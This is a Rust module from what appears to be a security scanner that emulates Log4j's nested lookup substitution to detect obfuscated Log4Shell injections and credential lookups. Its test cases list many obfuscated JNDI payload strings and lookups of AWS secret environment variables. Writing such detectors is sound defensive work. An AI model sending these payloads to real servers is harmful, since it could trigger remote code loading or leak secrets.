//! Log4j's substitution of `${prefix:name:-default}`, as far as it can be known without the
//! program that runs it.
//!
//! `StrSubstitutor` resolves the innermost expression first, splits what came out at the first
//! `:-`, and hands the part before it to the lookup named by its prefix (Log4j 2, "Lookups"). A
//! lookup that finds nothing yields the default; so does one of a prefix that nobody registered,
//! which is what makes `${x:y:-j}` a way to write `j`.

use crate::rule::base64::Octets;

/// Deepest nesting that is followed. Deeper expressions exhaust the stack of the program they are
/// written for (CVE-2021-45105) and serve nothing else.
const DEPTH: usize = 12;

/// Bytes kept of what expressions yield; the lookup's prefix stands at its head.
const OUTPUT: usize = 256;

/// What an expression turned out to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Outcome {
    /// A lookup by JNDI.
    Jndi,
    /// Commons Text: a script, a URL or a name is evaluated or asked for.
    Remote,
    /// What the program or its platform keeps to itself: credentials, settings, identities.
    Secret,
    /// Letters spelled one by one through lookups, which hides a prefix and nothing else.
    Hidden,
    Harmless,
}

struct Output {
    bytes: [u8; OUTPUT],
    length: usize,
}

impl Output {
    fn push(&mut self, byte: u8) {
        if let Some(slot) = self.bytes.get_mut(self.length) {
            *slot = byte;
            self.length += 1;
        }
    }

    fn from(&self, start: usize) -> &[u8] {
        self.bytes.get(start..self.length).unwrap_or_default()
    }

    /// Replaces what begins at `start` by its part `range`, counted from `start`.
    fn keep(&mut self, start: usize, range: core::ops::Range<usize>) {
        let end = (start + range.end).min(self.length);
        let first = (start + range.start).min(end);
        self.bytes.copy_within(first..end, start);
        self.length = start + (end - first);
    }
}

/// Evaluates the expression that `text` begins with; also how many bytes were read.
pub(super) fn evaluate(text: &[u8]) -> (Outcome, usize) {
    let mut output = Output {
        bytes: [0; OUTPUT],
        length: 0,
    };
    let mut starts = [0; DEPTH];
    let mut depth = 0;
    let mut spelled = 0;
    let mut i = 0;
    while let Some(byte) = text.get(i) {
        match (byte, text.get(i + 1)) {
            (b'$', Some(b'{')) => {
                let Some(slot) = starts.get_mut(depth) else {
                    return (Outcome::Hidden, i);
                };
                *slot = output.length;
                depth += 1;
                i += 2;
                continue;
            }
            (b'}', _) if depth > 0 => {
                depth -= 1;
                let start = starts.get(depth).copied().unwrap_or(0);
                let outcome = judge(output.from(start));
                if outcome != Outcome::Harmless {
                    return (outcome, i + 1);
                }
                spelled += u32::from(resolve(&mut output, start));
                if depth == 0 {
                    i += 1;
                    break;
                }
            }
            _ => output.push(*byte),
        }
        i += 1;
    }
    // Cut off or never closed: programs that log in parts, and senders who forget.
    for start in starts.iter().take(depth) {
        let outcome = judge(output.from(*start));
        if outcome != Outcome::Harmless {
            return (outcome, i);
        }
    }
    // What base64 yields is substituted again.
    if output
        .from(0)
        .windows(7)
        .any(|w| w.eq_ignore_ascii_case(b"${jndi:"))
    {
        return (Outcome::Jndi, i);
    }
    (
        if spelled >= 2 {
            Outcome::Hidden
        } else {
            Outcome::Harmless
        },
        i,
    )
}

/// What a lookup by this text would do.
fn judge(content: &[u8]) -> Outcome {
    let Some(colon) = content.iter().position(|b| *b == b':') else {
        return Outcome::Harmless;
    };
    let (prefix, rest) = content.split_at(colon);
    let rest = rest.get(1..).unwrap_or_default();
    let is = |name: &[u8]| prefix.eq_ignore_ascii_case(name);
    let begins = |names: &[&[u8]]| {
        names.iter().any(|n| {
            rest.get(..n.len())
                .is_some_and(|r| r.eq_ignore_ascii_case(n))
        })
    };
    if is(b"jndi") {
        return Outcome::Jndi;
    }
    let charset = || {
        rest.iter()
            .position(|b| *b == b':')
            .and_then(|i| rest.get(i + 1..))
    };
    let remote = (is(b"script")
        && begins(&[
            b"javascript:",
            b"js:",
            b"nashorn:",
            b"ecmascript:",
            b"groovy:",
            b"python:",
            b"ruby:",
            b"jexl:",
            b"kotlin:",
            b"rhino:",
        ]))
        || (is(b"url") && charset().is_some_and(|url| memchr::memmem::find(url, b"://").is_some()))
        || (is(b"dns") && begins(&[b"address|", b"name|", b"canonical|", b"canonical-name|"]))
        || (is(b"file")
            && begins(&[b"utf-8:", b"iso-8859-1:", b"us-ascii:", b"utf-16"])
            && charset().is_some_and(|path| !path.is_empty()));
    // Commons Text, again: a key of a file, a node of a file.
    let keyed = memchr::memmem::find(rest, b"::").is_some_and(|at| at + 2 < rest.len());
    let node = rest
        .iter()
        .position(|b| *b == b':')
        .is_some_and(|path| path > 0 && matches!(rest.get(path + 1), Some(b'/')));
    if remote || is(b"properties") && keyed || is(b"xml") && node {
        return Outcome::Remote;
    }
    let secret = is(b"env")
        && begins(&[
            b"aws_secret_access_key",
            b"aws_session_token",
            b"aws_access_key_id",
        ]);
    // A value of the program's own settings, by file and key.
    let bundled =
        is(b"bundle") && charset().is_some_and(|key| !key.is_empty() && !key.starts_with(b"-"));
    if secret || bundled || is_platform(prefix, rest) {
        Outcome::Secret
    } else {
        Outcome::Harmless
    }
}

/// Whether a lookup has the platform described, by a key that its prefix takes (Log4j 2, "Lookups").
/// The version of Java alone says little, and property files refer to it.
fn is_platform(prefix: &[u8], key: &[u8]) -> bool {
    const LOOKUPS: [(&[u8], &[&[u8]]); 3] = [
        (b"java", &[b"runtime", b"vm", b"os", b"locale", b"hw"]),
        (
            b"docker",
            &[
                b"containerid",
                b"containername",
                b"imageid",
                b"imagename",
                b"shortcontainerid",
                b"shortimageid",
            ],
        ),
        (b"log4j", &[b"configlocation", b"configparentlocation"]),
    ];
    let key = match memchr::memmem::find(key, b":-") {
        Some(default) => key.get(..default).unwrap_or_default(),
        None => key,
    };
    let known = LOOKUPS.iter().any(|(name, keys)| {
        prefix.eq_ignore_ascii_case(name) && keys.iter().any(|k| key.eq_ignore_ascii_case(k))
    });
    let spring = prefix.eq_ignore_ascii_case(b"spring")
        && (key.starts_with(b"spring.") || key.starts_with(b"profiles.active"));
    known || spring
}

/// Whether a text is one lookup of what surrounds the program, by a prefix of Log4j's own (Log4j 2,
/// "Lookups"). The environment, dates and properties are asked for by every tool's settings too.
pub(super) fn is_question(text: &[u8]) -> bool {
    const PREFIXES: [&[u8]; 9] = [
        b"ctx", b"event", b"k8s", b"main", b"map", b"marker", b"sd", b"sys", b"web",
    ];
    let inner = text.strip_prefix(b"${").and_then(|t| t.strip_suffix(b"}"));
    let Some(inner) = inner else { return false };
    let colon = inner.iter().take(8).position(|b| *b == b':');
    let (prefix, key) = inner.split_at(colon.unwrap_or(0));
    let named = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-');
    let key = key.get(1..).unwrap_or_default();
    PREFIXES.iter().any(|p| prefix.eq_ignore_ascii_case(p))
        && !key.is_empty()
        && key.iter().all(named)
}

/// Puts what the expression at `start` yields in its place; whether it was a letter or two spelled
/// by a lookup.
fn resolve(output: &mut Output, start: usize) -> bool {
    let content = output.from(start);
    let length = content.len();
    let split = content.windows(2).position(|w| w == b":-");
    let name = content.get(..split.unwrap_or(length)).unwrap_or_default();
    let colon = name.iter().position(|b| *b == b':');
    let prefix = name.get(..colon.unwrap_or(0)).unwrap_or_default();
    let value = colon.map_or(0, |c| c + 1)..name.len();
    let is = |wanted: &[u8]| prefix.eq_ignore_ascii_case(wanted);
    let short = value.len() <= 2;
    if is(b"lower") || is(b"upper") {
        let upper = is(b"upper");
        output.keep(start, value);
        // U+0131 becomes `I`.
        if upper && output.from(start) == b"\xc4\xb1" {
            output.length = start;
            output.push(b'I');
        }
        for byte in output.bytes.iter_mut().take(output.length).skip(start) {
            *byte = if upper {
                byte.to_ascii_uppercase()
            } else {
                byte.to_ascii_lowercase()
            };
        }
        return short;
    }
    if is(b"date") {
        // Quoted parts of a date pattern stand for themselves.
        let quotes = value.len() >= 2 && name.last() == Some(&b'\'');
        let trim = usize::from(quotes);
        output.keep(start, value.start + trim..value.end - trim);
        return quotes && value.len() <= 4;
    }
    if is(b"base64") || is(b"base64decoder") {
        output.keep(start, value);
        decode(output, start);
        return false;
    }
    match split {
        Some(at) => {
            let nameless = name.iter().all(|b| *b == b':');
            output.keep(start, at + 2..length);
            // A shell's `${NAME:-d}` has a name and no colon in it.
            (nameless || colon.is_some()) && length - at <= 4
        }
        None => {
            output.length = start;
            output.push(b'?');
            false
        }
    }
}

/// Decodes base64 in place; what is not base64 ends it.
fn decode(output: &mut Output, start: usize) {
    let end = output.length;
    output.length = start;
    let mut octets = Octets::default();
    for i in start..end {
        let Some(octet) = output.bytes.get(i).and_then(|digit| octets.take(*digit)) else {
            break;
        };
        // Three bytes for four: the write stays behind the read.
        if let Some(octet) = octet {
            output.push(octet);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expressions_resolve_from_the_inside() {
        for (text, outcome) in [
            ("${jndi:ldap://x}", Outcome::Jndi),
            ("${JnDi:x}", Outcome::Jndi),
            ("${jndi:ldap://x", Outcome::Jndi),
            ("${${lower:j}ndi:x}", Outcome::Jndi),
            ("${${::-j}${::-n}${::-d}${::-i}:x}", Outcome::Jndi),
            ("${${env:NOPE:-j}ndi${env:NOPE:-:}ldap}", Outcome::Jndi),
            ("${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:x}", Outcome::Jndi),
            ("${${date:'j'}${date:'n'}di:x}", Outcome::Jndi),
            ("${${base64:am5kaTo=}x}", Outcome::Jndi),
            ("${jnd${upper:\u{131}}:x}", Outcome::Jndi),
            ("${base64:JHtqbmRpOmxkYXA6Ly94fQ==}", Outcome::Jndi),
            ("${script:javascript:1+1}", Outcome::Remote),
            ("${url:UTF-8:http://x/}", Outcome::Remote),
            ("${dns:address|x}", Outcome::Remote),
            ("${env:AWS_SECRET_ACCESS_KEY}", Outcome::Secret),
            ("${env:AWS_REGION}", Outcome::Harmless),
            ("${${${${${${${${${${${${${x", Outcome::Hidden),
            ("${::-a}${::-b}", Outcome::Harmless),
            ("${${::-a}${::-b}}", Outcome::Hidden),
            ("${HOME:-/root}", Outcome::Harmless),
            ("${a:${b}}", Outcome::Harmless),
            ("${lower:ABC}", Outcome::Harmless),
            ("${", Outcome::Harmless),
        ] {
            assert_eq!(evaluate(text.as_bytes()).0, outcome, "{text}");
        }
    }
}
